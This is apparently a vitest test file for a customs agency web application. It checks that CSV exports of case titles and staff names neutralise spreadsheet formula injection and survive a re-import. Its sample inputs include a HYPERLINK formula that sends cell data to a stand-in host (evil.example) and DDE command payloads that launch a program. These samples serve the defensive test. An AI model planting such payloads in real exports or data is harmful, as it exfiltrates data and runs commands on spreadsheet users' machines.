import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { anyUserOf } from "../support/people.js";
import { createTestApp, type TestApp } from "../support/testApp.js";

const ADMIN = "DGD0099";
const MAIL = "douanes-e-compte-mail";
const LIVE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"voir")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

/** Issue 17 item 6: no exported cell starts a formula a spreadsheet would run. */
describe("CSV formula injection", () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(async () => {
    await t.close();
  });

  it("neutralises case titles that start a formula in the register export", async () => {
    const requester = await anyUserOf(t.database, "douanes", "BAS");
    for (const title of LIVE) {
      expect((await t.as(requester).post("/api/cases", { procedureId: MAIL, title })).status).toBe(201);
    }
    const res = await t.as(requester).get(`/api/cases/export?format=csv&procedureId=${MAIL}`);
    expect(res.status).toBe(200);
    const rows: string[][] = parse(res.bytes.toString("utf8"), { bom: true, delimiter: ";" });
    const titles = rows.slice(1).map((r) => r[3]!);
    expect(titles.sort()).toEqual(LIVE.map((v) => `'${v}`).sort());
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it("neutralises names in the org chart export, and reads its own export back unchanged", async () => {
    const units = await t
      .as(ADMIN)
      .get<{ items: Array<{ id: string; code: string }> }>("/api/units?limit=200");
    const bit = units.body.items.find((u) => u.code === "BIT")!;
    const created = await t.as(ADMIN).post<{ user: { id: string } }>("/api/users", {
      matricule: "DGD0777",
      name: "=1+2",
      phone: "+225 07 00 00 00",
      unitId: bit.id,
    });
    expect(created.status).toBe(201);
    const exported = await t.as(ADMIN).get("/api/org-chart/export?kind=users");
    const rows: string[][] = parse(exported.bytes.toString("utf8"));
    const line = rows.find((r) => r[0] === "DGD0777")!;
    expect(line[1]).toBe("'=1+2");
    expect(line[3]).toBe("'+225 07 00 00 00");
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const again = await t.as(ADMIN).upload("/api/org-chart/import?kind=users", exported.bytes, "text/csv");
    expect(again.status).toBe(200);
    const user = await t.as(ADMIN).get<{ name: string; phone: string }>(`/api/users/${created.body.user.id}`);
    expect(user.body).toMatchObject({ name: "=1+2", phone: "+225 07 00 00 00" });
  });
});
